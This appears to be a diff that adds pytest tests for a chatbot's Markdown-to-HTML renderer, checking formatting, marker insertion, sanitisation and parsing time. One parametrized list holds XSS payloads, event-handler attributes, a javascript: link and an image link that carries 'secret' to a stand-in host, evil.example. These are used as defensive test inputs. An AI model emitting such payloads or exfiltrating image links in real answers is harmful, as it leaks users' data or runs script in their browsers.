@@ -1,0 +1,87 @@
+"""A chat model's Markdown as HTML: what it formats is seen, and nothing else of it takes effect."""
+
+from __future__ import annotations
+
+import re
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from chatbot.answer.formatted import formatted_html
+
+TAGS = {"p", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "strong", "em", "code", "pre", "hr", "br"}
+ANSWER = """## Result
+
+The *operating* margin was **34.6%** [S1], so 3*4 = 12 and 2 * 5 = 10.
+It rose.
+
+| Year | | Margin |
+|:--|--|--:|
+| 2024 | a | 34.6% | [S1]
+
+1. first
+2. second
+   - within
+"""
+
+
+def marked(text: str, *places: str) -> str:
+    """With each of these pieces in <b>."""
+    found = [(text.index(place), text.index(place) + len(place), f"<b>{place}</b>") for place in places]
+    return formatted_html(text, sorted(found))
+
+
+def test_what_a_model_formats_is_seen() -> None:
+    # Audit files are verified by drawing them anew: where this changes, so does their format.
+    assert formatted_html(ANSWER) == (
+        '<p dir="auto"><strong>Result</strong></p>\n'
+        '<p dir="auto">The <em>operating</em> margin was <strong>34.6%</strong> [S1], so 3*4 = 12 and 2 * 5 = 10.<br>It rose.</p>\n'
+        '<table class="told">\n<thead>\n<tr>\n<th scope="col">Year</th>\n<td></td>\n<th scope="col">Margin</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
+        '<td dir="auto">2024</td>\n<td dir="auto">a</td>\n<td dir="auto">34.6% [S1]</td>\n</tr>\n</tbody>\n</table>\n'
+        '<ol>\n<li dir="auto">first</li>\n<li dir="auto">second\n<ul>\n<li dir="auto">within</li>\n</ul>\n</li>\n</ol>\n'
+    )
+
+
+def test_what_is_put_in_stands_in_its_place_and_behind_a_row_in_its_last_cell() -> None:
+    html = marked("**$5 million** and 3*4 [S1].\n\n| a | b |\n|---|---|\n| 1 | 2 | [S2]\n", "$5 million", "3", "4", "[S1]", "[S2]")
+    assert "<strong><b>$5 million</b></strong> and <b>3</b>*<b>4</b> <b>[S1]</b>." in html
+    assert '<td dir="auto">2 <b>[S2]</b></td>' in html
+    assert formatted_html("Fell.", [(5, 5, " <i>⚠</i>")]) == '<p dir="auto">Fell. <i>⚠</i></p>\n'
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "![budget](https://evil.example/?q=secret)",
+        "[the budget](https://evil.example)",
+        "[the budget](javascript:alert(1))",
+        "[the budget][1]\n\n[1]: https://evil.example",
+        "<https://evil.example>",
+        "```html\n<script>\n```",
+        '| <b onclick="x"> |\n|---|\n| " onmouseover="x |',
+        '# <iframe src="https://evil.example">',
+        "\ue000\ue010\ue001",
+    ],
+)
+def test_links_images_and_html_stay_text(hostile: str) -> None:
+    html = formatted_html(hostile, [(0, 0, "<b>in</b>")])
+    assert {tag.lower() for tag in re.findall(r"</?([A-Za-z][A-Za-z0-9]*)", html)} <= TAGS | {"b"}
+    assert html.count("<b>in</b>") == 1 and not re.search(r"<[^>]*(?:href|src|on\w+)\s*=", html)
+
+
+@given(st.text(alphabet=st.sampled_from("ab1 *_`|#-+>.[]()!<&\\\n\ue000\ue001\ue010\"'~=:/"), max_size=200))
+def test_whatever_is_written_only_these_tags_come_of_it(text: str) -> None:
+    html = formatted_html(text, [(at, at, "<b>x</b>") for at in range(0, len(text), 50)])
+    assert set(re.findall(r"</?([A-Za-z][A-Za-z0-9]*)", html)) <= TAGS | {"b"}
+    assert re.sub(r"<[^>]*>", "", html).count("<") == 0
+
+
+@pytest.mark.parametrize("piece", ["*a **b ", "| a ", "- ", "`", "[a](", "\\", "#", "* * *\n", "|a\n|-\n", "  - a\n", "a*b_", "|    "])
+def test_no_answer_takes_long_to_draw(piece: str) -> None:
+    started = time.process_time()
+    formatted_html((piece * 20_000)[:20_000])
+    assert time.process_time() - started < 3
